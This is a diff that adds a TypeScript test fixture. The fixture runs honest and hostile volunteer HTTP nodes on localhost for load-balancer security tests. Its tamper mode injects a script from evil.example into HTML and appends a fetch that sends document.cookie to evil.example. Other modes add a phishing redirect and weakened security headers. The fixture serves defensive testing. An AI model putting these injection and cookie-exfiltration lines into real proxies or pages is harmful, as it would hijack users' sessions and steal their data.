@@ -1,0 +1,152 @@
+import { createServer, request, type IncomingHttpHeaders, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
+import type { AddressInfo, Socket } from 'node:net';
+
+// Volunteer nodes for balancer tests, honest and hostile, as real HTTP servers. An honest node
+// fetches what it is asked from the origin (Host picks the site) and relays it; each hostile
+// mode misbehaves in one way from SECURITY-TESTS.md "Hostile nodes".
+
+export type NodeMode =
+  | 'honest' | 'set-cookie' | 'redirect' | 'weak-headers' | 'tamper' | 'truncate' | 'garbage-status' | 'bad-header'
+  | 'huge-headers' | 'hang' | 'drip' | 'endless' | 'error500' | 'slow-body' | 'refuse';
+
+export interface SeenRequest {
+  method: string;
+  url: string;
+  headers: IncomingHttpHeaders;
+  rawHeaders: string[];
+}
+
+export interface HostileNode {
+  url: string;
+  requests: SeenRequest[];
+  /** Sockets open right now (connections from the balancer). */
+  openSockets(): number;
+  setMode(mode: NodeMode): void;
+  close(): Promise<void>;
+}
+
+function fetchOrigin(origin: string, req: IncomingMessage): Promise<{ status: number; headers: IncomingHttpHeaders; body: Buffer }> {
+  return new Promise((resolve, reject) => {
+    const up = request(new URL(req.url ?? '/', origin), { method: 'GET', agent: false, headers: { host: req.headers.host ?? '', 'accept-encoding': 'identity' } }, (res) => {
+      const chunks: Buffer[] = [];
+      res.on('data', (c: Buffer) => chunks.push(c));
+      res.on('end', () => resolve({ status: res.statusCode ?? 502, headers: res.headers, body: Buffer.concat(chunks) }));
+      res.on('error', reject);
+    });
+    up.on('error', reject);
+    up.end();
+  });
+}
+
+function tamper(body: Buffer, type: string): Buffer {
+  if (type.includes('html')) return Buffer.from(body.toString('utf8').replace('</body>', '<script src="https://evil.example/x.js"></script></body>'));
+  if (type.includes('javascript')) return Buffer.concat([body, Buffer.from('\n;fetch("https://evil.example/steal?c="+document.cookie);\n')]);
+  const copy = Buffer.from(body);
+  if (copy.length > 10) copy[10] = (copy[10] ?? 0) ^ 0xff;
+  return copy;
+}
+
+async function relay(origin: string, mode: NodeMode, req: IncomingMessage, res: ServerResponse): Promise<void> {
+  const up = await fetchOrigin(origin, req);
+  const type = String(up.headers['content-type'] ?? 'application/octet-stream');
+  const body = mode === 'tamper' ? tamper(up.body, type) : up.body;
+  const headers: Record<string, string | number> = { 'content-type': type, 'content-length': body.length, 'cache-control': 'public, max-age=60' };
+  if (mode === 'set-cookie') headers['set-cookie'] = 'tracker=node-was-here; Path=/';
+  if (mode === 'weak-headers') {
+    Object.assign(headers, {
+      'strict-transport-security': 'max-age=0', 'content-security-policy': 'default-src *', 'clear-site-data': '"*"',
+      'alt-svc': 'h3=":443"; ma=86400', 'access-control-allow-origin': '*', link: '<https://evil.example/x.js>; rel=preload', refresh: '0; url=https://evil.example/',
+    });
+  }
+  res.writeHead(up.status, headers);
+  res.end(req.method === 'HEAD' ? undefined : body);
+}
+
+function raw(socket: Socket, text: string): void {
+  socket.end(text);
+}
+
+function misbehave(mode: NodeMode, req: IncomingMessage, res: ServerResponse, timers: Set<NodeJS.Timeout>): boolean {
+  const socket = req.socket;
+  switch (mode) {
+    case 'redirect':
+      res.writeHead(302, { location: 'https://evil.example/phish', 'content-length': 0 });
+      res.end();
+      return true;
+    case 'truncate':
+      socket.write('HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 100\r\n\r\nhello');
+      socket.destroy();
+      return true;
+    case 'garbage-status':
+      raw(socket, 'HTTP/1.1 ABC this is not a status\r\n\r\n');
+      return true;
+    case 'bad-header':
+      raw(socket, 'HTTP/1.1 200 OK\r\nX-Bad: a\x01b\r\nContent-Length: 2\r\n\r\nok');
+      return true;
+    case 'huge-headers':
+      raw(socket, `HTTP/1.1 200 OK\r\nX-Huge: ${'a'.repeat(20_000)}\r\nContent-Length: 2\r\n\r\nok`);
+      return true;
+    case 'hang':
+      return true;
+    case 'error500':
+      res.writeHead(500, { 'content-length': 4 });
+      res.end('boom');
+      return true;
+    case 'drip':
+    case 'endless':
+    case 'slow-body': {
+      const slow = mode === 'slow-body';
+      res.writeHead(200, slow ? { 'content-type': 'text/html', 'content-length': 1024 * 1024 } : { 'content-type': 'text/html' });
+      const chunk = Buffer.alloc(mode === 'drip' ? 1 : 16 * 1024, 'x');
+      const t = setInterval(() => {
+        if (res.destroyed) return clearInterval(t);
+        res.write(chunk);
+      }, mode === 'drip' ? 300 : slow ? 50 : 1);
+      timers.add(t);
+      return true;
+    }
+    default:
+      return false;
+  }
+}
+
+export async function startHostileNode(opts: { origin: string; mode?: NodeMode }): Promise<HostileNode> {
+  let mode: NodeMode = opts.mode ?? 'honest';
+  const requests: SeenRequest[] = [];
+  const sockets = new Set<Socket>();
+  const timers = new Set<NodeJS.Timeout>();
+  const server: Server = createServer((req, res) => {
+    if (req.url === '/.well-known/verity/health') {
+      if (mode === 'hang') return;
+      res.writeHead(200, { 'content-type': 'application/json' });
+      res.end('{"ok":true}');
+      return;
+    }
+    requests.push({ method: req.method ?? '', url: req.url ?? '', headers: req.headers, rawHeaders: req.rawHeaders });
+    if (mode === 'refuse') {
+      req.socket.destroy();
+      return;
+    }
+    if (misbehave(mode, req, res, timers)) return;
+    relay(opts.origin, mode, req, res).catch(() => res.destroy());
+  });
+  server.on('connection', (s: Socket) => {
+    sockets.add(s);
+    s.on('close', () => sockets.delete(s));
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  const { port } = server.address() as AddressInfo;
+  return {
+    url: `http://127.0.0.1:${port}`,
+    requests,
+    openSockets: () => sockets.size,
+    setMode: (m) => {
+      mode = m;
+    },
+    close: () => new Promise<void>((resolve) => {
+      for (const t of timers) clearInterval(t);
+      for (const s of sockets) s.destroy();
+      server.close(() => resolve());
+    }),
+  };
+}
